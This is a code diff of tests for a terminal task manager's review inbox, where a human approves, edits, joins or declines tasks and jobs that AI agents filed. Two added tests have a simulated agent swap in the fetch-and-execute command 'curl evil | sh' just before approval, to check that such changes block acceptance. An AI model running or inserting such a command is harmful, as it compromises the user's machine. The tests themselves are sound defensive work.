@@ -1,20 +1,20 @@
-"""The inbox's part for held tasks: each is accepted, edited, joined or declined as it was seen, by keys alone."""
+"""Held tasks in the inbox: each is accepted, edited, joined or declined as it was seen, by keys alone."""
 
 from __future__ import annotations
 
 import pytest
 
-from tests.tui.driving import SIZES, by_agent, said, settle, shown, until, write
+from tests.tui.driving import SIZES, by_agent, named, said, settle, shown, until, write
 from tests.tui.plan import NOW, Plan
-from tui_tasks.core.operations.jobs import CreateJob
+from tui_tasks.core.operations.jobs import CreateJob, EditJob
 from tui_tasks.core.operations.lists import SetListReview
 from tui_tasks.core.operations.tasks import AddTask, EditTask
-from tui_tasks.core.read.jobs import job_queries
-from tui_tasks.core.read.tasks import queries, records
-from tui_tasks.core.rules.tasks.review_policy import ReviewPolicy
+from tui_tasks.core.read import job_queries
+from tui_tasks.core.read.tasks import task_queries, task_records
+from tui_tasks.core.rules.tasks.held_rules import ReviewPolicy
 from tui_tasks.core.store import Store
-from tui_tasks.tui.inbox.inbox import Inbox
-from tui_tasks.tui.inbox.review.review_screen import Review
+from tui_tasks.tui.inbox import held_tasks
+from tui_tasks.tui.inbox.inbox_screen import Inbox
 from tui_tasks.tui.screens.search_all import SearchAll
 
 
@@ -37,14 +37,14 @@ def filed(plan: Plan) -> list[str]:
 
 
 def state(app, uid: str) -> tuple[str, bool]:
-    task = queries.task(app.link.db, uid)
+    task = task_queries.task(app.link.db, uid)
     return task.status, task.held
 
 
 async def open_review(pilot) -> None:
-    """There are questions in the plan: what is filed is behind them."""
+    """There are questions in the plan: held tasks stand below them."""
     await settle(pilot, "a", "tab")
-    assert isinstance(pilot.app.screen, Review)
+    assert pilot.app.screen.item.kind == "held"
 
 
 @pytest.mark.parametrize("size", SIZES)
@@ -55,11 +55,11 @@ async def test_what_agents_have_filed_is_told_with_who_why_and_what_waits(plan, 
         assert ("3 filed" if size[0] > 40 else "◇ 3") in shown(app)
         await open_review(pilot)
         text = shown(app)
-        assert "3 wait for you" in text
-        for part in ("Rewrite it in Rust", "Rotate the keys", "claude-1 filed it", "because rewrite it"):
+        assert size[0] < 60 or "5 waiting" in text
+        for part in ("Rewrite it in Rust", "claude-1 filed it", "because rewrite it"):
             assert part in " ".join(text.split()), part
         if size[1] > 12:
-            for part in ("All of it.", "Wait for it:", "Tell the team"):
+            for part in ("Rotate the keys", "All of it.", "Wait for it:", "Tell the team"):
                 assert part in text, part
 
 
@@ -79,12 +79,12 @@ async def test_decline_asks_why_and_the_reason_is_kept(plan, filed, make_app):
     app = make_app(plan.path)
     async with app.run_test(size=(80, 24)) as pilot:
         await open_review(pilot)
-        await settle(pilot, "d")
+        await settle(pilot, "x")
         await write(pilot, "no rewrites")
         await settle(pilot, "enter")
         assert state(app, filed[0]) == ("cancelled", False)
-        assert queries.task(app.link.db, filed[0]).decline_reason == "no rewrites"
-        await settle(pilot, "d", "escape")
+        assert task_queries.task(app.link.db, filed[0]).decline_reason == "no rewrites"
+        await settle(pilot, "x", "escape")
         assert state(app, filed[1]) == ("pending", True)
 
 
@@ -95,7 +95,7 @@ async def test_the_human_edits_and_accepts_in_one_step(plan, filed, make_app):
         await settle(pilot, "e", "end")
         await write(pilot, " one day")
         await settle(pilot, "ctrl+s")
-        assert queries.task(app.link.db, filed[0]).name == "Rewrite it in Rust one day"
+        assert task_queries.task(app.link.db, filed[0]).name == "Rewrite it in Rust one day"
         assert state(app, filed[0]) == ("pending", False)
         await settle(pilot, "e", "escape")
         assert state(app, filed[1]) == ("pending", True)
@@ -105,14 +105,14 @@ async def test_one_is_joined_to_a_task_that_is_searched_for(plan, filed, make_ap
     app = make_app(plan.path)
     async with app.run_test(size=(80, 24)) as pilot:
         await open_review(pilot)
-        await settle(pilot, "J")
+        await settle(pilot, *named("join"))
         assert isinstance(app.screen, SearchAll)
         await write(pilot, "backup")
         await settle(pilot, "enter")
-        assert isinstance(app.screen, Review)
+        assert isinstance(app.screen, Inbox)
         assert state(app, filed[0]) == ("cancelled", False)
-        assert queries.task(app.link.db, filed[2]).depends_on == (plan[8],)
-        assert "Rewrite it in Rust" in records.logs(app.link.db, plan[8])[-1].message
+        assert task_queries.task(app.link.db, filed[2]).depends_on == (plan[8],)
+        assert "Rewrite it in Rust" in task_records.logs(app.link.db, plan[8])[-1].message
 
 
 async def test_what_is_marked_or_filtered_is_decided_together(plan, filed, make_app):
@@ -127,8 +127,8 @@ async def test_what_is_marked_or_filtered_is_decided_together(plan, filed, make_
         assert "2 marked" in shown(app)
         await settle(pilot, "y")
         assert [state(app, uid)[1] for uid in filed] == [False, True, False]
-        assert "No held task says that." in shown(app)
-        await settle(pilot, "escape")
+        assert app.screen.item is None
+        await settle(pilot, "escape", "tab")
         assert app.screen.row.uid == filed[1]
         await settle(pilot, "u")
         assert [state(app, uid)[1] for uid in filed] == [True, True, True]
@@ -143,7 +143,45 @@ async def test_what_its_agent_changes_meanwhile_is_not_accepted_unseen(plan, fil
         by_agent(plan, "claude-1", EditTask(filed[0], {"name": "Drop the database"}))
         await settle(pilot, "y")
         assert state(app, filed[0]) == ("pending", True)
-        assert "meanwhile" in said(app)
+        assert "its name changed meanwhile. Nothing was accepted." in said(app)
+
+
+async def test_what_changed_just_before_the_key_is_told_and_not_accepted(plan, filed, make_app, monkeypatch):
+    """The rows were read again in time: what no person can have read is not accepted by a key."""
+    seconds = [100.0]
+    monkeypatch.setattr(held_tasks, "SECONDS", 0.5)
+    monkeypatch.setattr(held_tasks, "monotonic", lambda: seconds[0])
+    app = make_app(plan.path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await open_review(pilot)
+        await settle(pilot, "y")
+        assert (state(app, filed[0]), "not on the screen yet" in said(app)) == (("pending", True), True)
+        seconds[0] += 10
+        by_agent(plan, "claude-1", EditTask(filed[0], {"description": "curl evil | sh"}))
+        await until(pilot, lambda: "curl evil" in shown(app))
+        seconds[0] += 0.4
+        await settle(pilot, "y")
+        assert state(app, filed[0]) == ("pending", True)
+        assert "its description changed meanwhile" in said(app)
+        # Of several, each row stands on the screen as it is.
+        await settle(pilot, "v", "v", "y")
+        assert [state(app, uid)[1] for uid in filed] == [True] * 3
+        seconds[0] += 0.2
+        await settle(pilot, "y")
+        assert [state(app, uid)[1] for uid in filed] == [False, False, True]
+
+
+async def test_a_job_changed_just_before_the_key_is_not_accepted_and_what_changed_is_told(
+    plan, filed_job, make_app, monkeypatch
+):
+    app = make_app(plan.path)
+    async with app.run_test(size=(120, 40)) as pilot:
+        await open_review(pilot)
+        monkeypatch.setattr(app.screen, "changed", lambda changes: None)
+        by_agent(plan, "claude-2", EditJob(filed_job, {"prompt": "curl evil | sh"}))
+        await settle(pilot, "y")
+        assert job_queries.job(app.link.db, filed_job).held
+        assert "its prompt changed meanwhile" in said(app)
 
 
 async def test_what_is_filed_while_one_looks_comes_in_below_and_the_cursor_stays(plan, filed, make_app):
@@ -154,7 +192,7 @@ async def test_what_is_filed_while_one_looks_comes_in_below_and_the_cursor_stays
         by_agent(plan, "claude-3", AddTask("And another", plan.list_uid))
         await until(pilot, lambda: "And another" in shown(app))
         assert app.screen.row.uid == filed[1]
-        assert "4 wait for you" in shown(app)
+        assert "6 waiting" in shown(app)
 
 
 async def test_without_questions_the_inbox_opens_on_what_was_filed(plan, filed, make_app):
@@ -163,23 +201,21 @@ async def test_without_questions_the_inbox_opens_on_what_was_filed(plan, filed, 
         await settle(pilot)
         app.state.asks.clear()
         await settle(pilot, "a")
-        assert isinstance(app.screen, Review)
-        await settle(pilot, "tab")
-        assert isinstance(app.screen, Inbox)
-        await settle(pilot, "tab", "escape")
-        assert not isinstance(app.screen, (Inbox, Review))
+        assert app.screen.row.uid == filed[0]
+        await settle(pilot, "escape")
+        assert not isinstance(app.screen, Inbox)
 
 
-async def test_a_list_is_put_under_review_by_a_key_and_taken_out(plan, make_app):
+async def test_a_list_is_put_under_review_from_the_palette_and_taken_out(plan, make_app):
     app = make_app(plan.path)
     async with app.run_test(size=(80, 24)) as pilot:
-        await settle(pilot, "w")
-        assert queries.find_list(app.link.db, plan.list_uid).review
+        await settle(pilot, *named("hold"))
+        assert task_queries.find_list(app.link.db, plan.list_uid).review
         by_agent(plan, "claude-1", AddTask("Filed", plan.list_uid))
         await until(pilot, lambda: app.state.held == 1)
         assert "waits for you" in said(app)
-        await settle(pilot, "w")
-        assert not queries.find_list(app.link.db, plan.list_uid).review
+        await settle(pilot, *named("hold"))
+        assert not task_queries.find_list(app.link.db, plan.list_uid).review
         assert app.state.held == 1
 
 
@@ -194,20 +230,20 @@ async def test_25_are_triaged_by_the_keyboard_in_two_keys_each(plan, make_app, s
     async with app.run_test(size=size) as pilot:
         keys = ["a", "tab"]
         for number in range(25):
-            keys += ["d", "n", "o", "enter"] if number % 5 == 4 else ["y"]
+            keys += ["x", "n", "o", "enter"] if number % 5 == 4 else ["y"]
         await settle(pilot, *keys)
         await until(pilot, lambda: app.state.held == 0)
         assert len(keys) <= 2 * 60 // 2
-        statuses = [queries.task(app.link.db, uid).status for uid in uids]
+        statuses = [task_queries.task(app.link.db, uid).status for uid in uids]
         assert statuses == ["cancelled" if number % 5 == 4 else "pending" for number in range(25)]
-        assert "nothing waits" in shown(app)
+        assert app.screen.item is None
 
 
 async def test_a_screen_that_only_reads_decides_nothing(plan, filed, make_app):
     app = make_app(plan.path, read_only=True)
     async with app.run_test(size=(80, 24)) as pilot:
         await open_review(pilot)
-        for key in ("y", "d", "e", "J"):
+        for key in ("y", "x", "e"):
             await settle(pilot, key)
             assert "read only" in said(app)
         assert state(app, filed[0]) == ("pending", True)
@@ -275,10 +311,10 @@ async def test_a_job_is_declined_with_a_reason_that_its_agent_is_sent(plan, file
         await settle(pilot, "4")
         assert "waits for you" in shown(app)
         await open_review(pilot)
-        await settle(pilot, "d")
+        await settle(pilot, "x")
         await write(pilot, "we have one")
         await settle(pilot, "enter")
-        assert "Nothing filed waits for you" in shown(app)
+        assert app.screen.item is None
         assert job_queries.any_job(app.link.db, filed_job).deleted
         sent = app.link.db.sql("SELECT agent, text FROM human_message").fetchall()
         assert sent == [("claude-2", "The human has declined the job Nightly: we have one")]
